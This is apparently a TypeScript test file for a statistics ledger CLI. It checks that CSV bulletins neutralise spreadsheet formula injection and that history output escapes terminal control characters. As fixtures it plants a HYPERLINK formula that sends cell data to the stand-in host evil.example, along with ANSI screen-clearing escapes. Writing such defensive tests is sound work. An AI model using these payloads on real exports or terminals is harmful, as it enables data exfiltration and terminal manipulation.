import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { unitStreamName } from '@statledger/domain';
import { createSqliteEventStore } from '@statledger/event-store-sqlite';
import { workspace } from './serve-fixture.ts';

const formula = '=HYPERLINK("http://evil.example/?d="&A1,"西城区")';

describe('exports and terminals are safe from what the log holds', () => {
  it('writes a unit name that starts a formula neutralised in the bulletin CSV, and prints a reason with ESC as an escape', async () => {
    const ws = workspace();
    const run = async (args: string[]) => {
      const child = ws.run(args);
      const code = await child.exited;
      return { code, output: child.output() };
    };
    expect((await run(['units', 'import', 'examples/units.csv'])).code).toBe(0);
    await run(['submit', 'examples/reports.csv']);
    // Text written before names and reasons were checked at input: the log keeps it, so readers must be safe.
    const store = createSqliteEventStore({ path: ws.env.STATLEDGER_STORE.slice('sqlite:'.length) });
    const metadata = { principal: 'admin', channel: 'cli', correlationId: randomUUID() };
    await store.appendToStream(
      unitStreamName('110101000000' as never),
      [
        {
          id: randomUUID(),
          type: 'UnitRenamed',
          data: { code: '110101000000', name: formula, previousName: '东城区' },
          metadata,
        },
      ],
      { expectedRevision: 'any' },
    );
    const report = 'report-sanitation-110101001001-2025-03';
    const values = {
      SAN_ROAD_AREA: '3.2',
      SAN_WASTE_COLLECTED: '186.4',
      SAN_WASTE_HARMLESS: '186.4',
      SAN_NIGHT_SOIL: '21.5',
      SAN_CONSTRUCTION_WASTE: '40',
      SAN_PUBLIC_TOILETS: '6',
      SAN_CLEANERS: '18',
    };
    await store.appendToStream(
      report,
      [{ id: randomUUID(), type: 'ReportCorrected', data: { values, reason: '更正\u001b[2J\u0007完' }, metadata }],
      { expectedRevision: 'any' },
    );
    await store.close();

    const bulletin = await run(['bulletin', '--city', '1101', '--period', '2025-Q1', '--format', 'csv']);
    expect(bulletin.code).toBe(0);
    expect(bulletin.output).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""西城区"")"`);
    expect(bulletin.output).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const history = await run(['history', report]);
    expect(history.output).toContain('更正\\u{1b}[2J\\u{7}完');
    expect(history.output).not.toContain('\u001b');
  });
});
